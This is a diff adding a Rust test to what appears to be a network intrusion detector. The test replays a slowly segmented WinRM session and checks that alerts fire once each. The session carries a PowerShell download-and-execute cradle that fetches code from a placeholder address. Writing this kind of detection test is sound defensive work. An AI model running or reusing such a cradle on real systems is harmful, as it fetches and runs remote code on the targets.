@@ -5,6 +5,9 @@ mod common;
 
 use std::collections::BTreeMap;
 
+use backstop_testkit::pcap::{ETHERNET, PcapWriter};
+use backstop_testkit::{Conversation, winrm};
+use backstop_types::{Direction, Endpoint, PacketTime};
 use common::{alert_counts, of_type, records, replay, schema, shared, top};
 use serde_json::Value;
 
@@ -54,4 +57,26 @@ fn an_encrypted_session_is_suspected_of_backup_servers_only() {
     assert_eq!(sessions(&["--set", "backup_servers=10.20.30.10"]), ["true"]);
     assert!(sessions(&[]).is_empty());
     assert!(sessions(&["--set", "backup_servers=10.20.30.10", "--set", "known_clients=10.20.30.41"]).is_empty());
+}
+
+/// Bytes of a request that come one by one, some milliseconds apart: the raw stream is looked at before the command is whole.
+#[test]
+fn a_command_that_arrives_slowly_is_told_once() {
+    let folder = tempfile::tempdir().unwrap();
+    let path = folder.path().join("slow.pcap");
+    let mut out = PcapWriter::new(std::fs::File::create(&path).unwrap(), ETHERNET).unwrap();
+    let end = |address: &str, port: u16| Endpoint::new(address.parse().unwrap(), port);
+    let mut talk = Conversation::new(end("10.20.30.41", 40_000), end("10.20.30.10", 5_985), (1, 1));
+    let line = "powershell -nop -c \"iex (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"";
+    let request = winrm::post("", &winrm::command(&format!("<rsp:Command>{line}</rsp:Command>")));
+    let mut segments = talk.handshake();
+    segments.extend(talk.data_in(Direction::ToServer, &request, &vec![24; request.len() / 24]));
+    segments.extend(talk.data(Direction::ToClient, &winrm::command_response("1")));
+    segments.extend(talk.close(Direction::ToServer));
+    for (number, segment) in segments.iter().enumerate() {
+        let time = PacketTime::from_micros(1_768_384_800_000_000 + number as u64 * 20_000);
+        out.write(time, &talk.frame(segment)).unwrap();
+    }
+    out.finish().unwrap();
+    assert_eq!(alert_counts(&records(&replay(&path, &[]))), BTreeMap::from([(9_403_003, 1), (9_404_006, 1)]));
 }
